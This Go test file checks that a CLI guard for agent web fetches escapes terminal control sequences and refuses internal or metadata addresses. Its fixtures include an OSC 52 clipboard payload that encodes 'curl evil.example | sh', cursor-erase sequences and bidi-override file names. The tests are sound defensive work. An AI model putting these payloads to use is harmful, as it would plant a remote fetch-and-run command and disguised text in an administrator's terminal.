package main

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/outboundhq/outbound/guard"
	"github.com/outboundhq/outbound/guard/guardtest"
	"github.com/outboundhq/outbound/internal/app"
)

// What an attacker puts in a page, a URL or an answer to reach the admin's
// terminal (issue 9, finding 7): an OSC 52 clipboard write, a CSI cursor
// move (two lines up, then erase the line) and a bidi override.
const (
	osc52     = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	cursorUp  = "\x1b[2A\x1b[2K"
	bidi      = "\u202e"
	c1CSI     = "\u009b31m"
	osc52Seen = `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`
)

// assertNoTerminalControls fails when out holds anything a terminal would
// act on: a C0 control but newline and tab, DEL, a C1 control, a bidi
// override or isolate, or a byte that is not UTF-8.
func assertNoTerminalControls(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s is not UTF-8: %q", what, out)
	}
	for i, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			t.Errorf("%s holds the raw control %U at byte %d: %q", what, r, i, out)
			return
		}
	}
}

func TestSafeTextEscapesWhatATerminalActsOn(t *testing.T) {
	for _, tc := range []struct{ in, text, line string }{
		{"plain — text", "plain — text", "plain — text"},
		{"a\nb\tc", "a\nb\tc", `a\x0ab\x09c`},
		{osc52, osc52Seen, osc52Seen},
		{cursorUp + "x", `\x1b[2A\x1b[2Kx`, `\x1b[2A\x1b[2Kx`},
		{"over\rwrite", `over\x0dwrite`, `over\x0dwrite`},
		{"del\x7f", `del\x7f`, `del\x7f`},
		{c1CSI, `\u009b31m`, `\u009b31m`},
		{"abc" + bidi + "txt.exe", `abc\u202etxt.exe`, `abc\u202etxt.exe`},
		{"\u2066iso\u2069", `\u2066iso\u2069`, `\u2066iso\u2069`},
		{"raw \x9b byte", `raw \x9b byte`, `raw \x9b byte`},
	} {
		if got := safeText(tc.in); got != tc.text {
			t.Errorf("safeText(%q) = %q, want %q", tc.in, got, tc.text)
		}
		if got := safeLine(tc.in); got != tc.line {
			t.Errorf("safeLine(%q) = %q, want %q", tc.in, got, tc.line)
		}
	}
}

// hostilePage serves a page whose title and text carry the sequences.
func hostilePage(t *testing.T) *httptest.Server {
	t.Helper()
	return loopbackPage(t, "<title>Status "+osc52+"</title><h1>Outage</h1><p>Line one"+cursorUp+" and "+bidi+"gnp.exe"+c1CSI+"</p><ul><li>first</li><li>second</li></ul>")
}

func TestFetchShowsPageTextEscaped(t *testing.T) {
	db := existingDB(t)
	srv := hostilePage(t)
	if r := runCLI(t, "allow", "add", "--db", db, strings.TrimPrefix(srv.URL, "http://")); r.code != 0 {
		t.Fatal(r)
	}
	r := runCLI(t, "fetch", "--db", db, srv.URL+"/")
	assertNoTerminalControls(t, "fetch", r.stdout)
	if r.code != 0 || !strings.Contains(r.stdout, "Title: Status "+osc52Seen) || !strings.Contains(r.stdout, `Line one\x1b[2A\x1b[2K and \u202egnp.exe\u009b31m`) ||
		!strings.Contains(r.stdout, "\n- first\n- second") {
		t.Fatalf("fetch: %+v", r)
	}
	r = runCLI(t, "fetch", "--json", "--db", db, srv.URL+"/")
	assertNoTerminalControls(t, "fetch --json", r.stdout)
	var out struct{ Title, Text string }
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil || out.Title != "Status "+osc52 || !strings.Contains(out.Text, cursorUp+" and "+bidi+"gnp.exe"+c1CSI) {
		t.Fatalf("fetch --json must decode to the page's own text: %v %+v", err, out)
	}
}

func TestToolShowsPageTextEscaped(t *testing.T) {
	db := existingDB(t)
	srv := hostilePage(t)
	if r := runCLI(t, "allow", "add", "--db", db, strings.TrimPrefix(srv.URL, "http://")); r.code != 0 {
		t.Fatal(r)
	}
	r := runCLI(t, "tool", "--db", db, "fetch_url", `{"url": "`+srv.URL+`/"}`)
	assertNoTerminalControls(t, "tool", r.stdout)
	if r.code != 0 || !strings.Contains(r.stdout, "Title: Status "+osc52Seen) || !strings.Contains(r.stdout, `\u202egnp.exe`) {
		t.Fatalf("tool: %+v", r)
	}
	r = runCLI(t, "tool", "--json", "--db", db, "fetch_url", `{"url": "`+srv.URL+`/"}`)
	assertNoTerminalControls(t, "tool --json", r.stdout)
}

func TestRefusalsShowNetworkTextEscaped(t *testing.T) {
	db := existingDB(t)
	resolver := guardtest.NewResolver()
	resolver.Answer("intranet.corp", "10.1.2.3")
	a, err := app.Open(context.Background(), db, app.Options{Resolver: resolver})
	if err != nil {
		t.Fatal(err)
	}
	ctx := guard.WithCaller(context.Background(), guard.Caller{Tool: "fetch_url", Agent: "bot" + cursorUp})
	hostile := "http://intranet.corp/" + osc52 + bidi + "txt.exe"
	if _, err := a.Guard().Get(ctx, hostile); err == nil {
		t.Fatal("the guard let an internal address through")
	}
	if _, err := a.Guard().Get(ctx, "http://intranet.corp/"+c1CSI+"\x7f"); err == nil {
		t.Fatal("the guard let an internal address through")
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	r := runCLI(t, "refusals", "--db", db)
	assertNoTerminalControls(t, "refusals", r.stdout)
	if r.code != 0 || !strings.Contains(r.stdout, osc52Seen) || !strings.Contains(r.stdout, `\u202etxt.exe`) || !strings.Contains(r.stdout, `bot\x1b[2A`) {
		t.Fatalf("refusals: %+v", r)
	}
	if lines := strings.Count(r.stdout, "\n"); lines != 3 {
		t.Fatalf("refusals printed %d lines, want a header and two rows:\n%s", lines, r.stdout)
	}
	r = runCLI(t, "refusals", "--json", "--db", db)
	assertNoTerminalControls(t, "refusals --json", r.stdout)
	var rows []app.LoggedRefusal
	if err := json.Unmarshal([]byte(r.stdout), &rows); err != nil || len(rows) != 2 || rows[1].Agent != "bot"+cursorUp || rows[1].URL != hostile {
		t.Fatalf("refusals --json must decode to the stored values: %v %+v", err, rows)
	}
}

func TestCheckShowsTheURLEscaped(t *testing.T) {
	db := existingDB(t)
	for _, args := range [][]string{{"check", "--db", db, "http://169.254.169.254/" + osc52 + bidi}, {"check", "--db", db, "http://intranet" + cursorUp + ".corp/"}} {
		r := runCLI(t, args...)
		assertNoTerminalControls(t, "check", r.stdout)
		if r.code != 3 || !strings.Contains(r.stdout, "refused  ") {
			t.Fatalf("check: %+v", r)
		}
		args = append(args[:1], append([]string{"--json"}, args[1:]...)...)
		r = runCLI(t, args...)
		assertNoTerminalControls(t, "check --json", r.stdout)
	}
}

func TestIntegrationsTestShowsTheAnswerEscaped(t *testing.T) {
	db := existingDB(t)
	svc := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"order":"A-1","note":"`+osc52+bidi+cursorUp+`"}`)
	}))
	t.Cleanup(svc.Close)
	if r := runCLIWithStdin(t, cliSecret+"\n", addOrderArgs(db, svc.URL)...); r.code != 0 {
		t.Fatalf("add: %+v", r)
	}
	if r := runCLI(t, "allow", "add", "--db", db, strings.TrimPrefix(svc.URL, "http://")); r.code != 0 {
		t.Fatal(r)
	}
	r := runCLI(t, "integrations", "test", "--db", db, "order_status", "id=A-1")
	assertNoTerminalControls(t, "integrations test", r.stdout)
	if r.code != 0 || !strings.Contains(r.stdout, osc52Seen) {
		t.Fatalf("integrations test: %+v", r)
	}
}

// TestErrorsShowTheirTextEscaped: an error quotes what it refused (here a
// pasted tool name), so its text reaches stderr escaped too.
func TestErrorsShowTheirTextEscaped(t *testing.T) {
	db := existingDB(t)
	r := runCLI(t, "tool", "--db", db, "fetch"+osc52, "{}")
	assertNoTerminalControls(t, "stderr", r.stderr)
	if r.code != 2 || !strings.Contains(r.stderr, "there is no tool fetch"+osc52Seen) {
		t.Fatalf("tool: %+v", r)
	}
}
